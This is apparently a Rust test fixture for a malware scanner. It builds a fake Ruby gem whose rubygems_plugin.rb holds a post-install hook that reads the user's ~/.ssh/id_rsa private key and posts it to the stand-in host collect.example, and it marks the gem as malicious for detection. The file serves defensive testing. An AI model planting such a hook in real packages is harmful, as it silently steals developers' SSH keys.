//! A gem with a `rubygems_plugin.rb` that only registers a hook, which sends an SSH key when another gem has been installed.
//!
//! Must be found: at the next installation.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const PLUGIN: &str = r"Gem.post_install do |_installer|
  require 'net/http'
  begin
    Net::HTTP.post(URI('https://collect.example/hook'), File.read(File.expand_path('~/.ssh/id_rsa')))
  rescue StandardError
    nil
  end
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("gem_notes", "2.2.0")
        .file("lib/rubygems_plugin.rb", PLUGIN)
        .file("lib/gem_notes.rb", "module GemNotes\nend\n");
    package
        .specimen(
            "gem-plugin-hook",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its rubygems_plugin.rb")
}
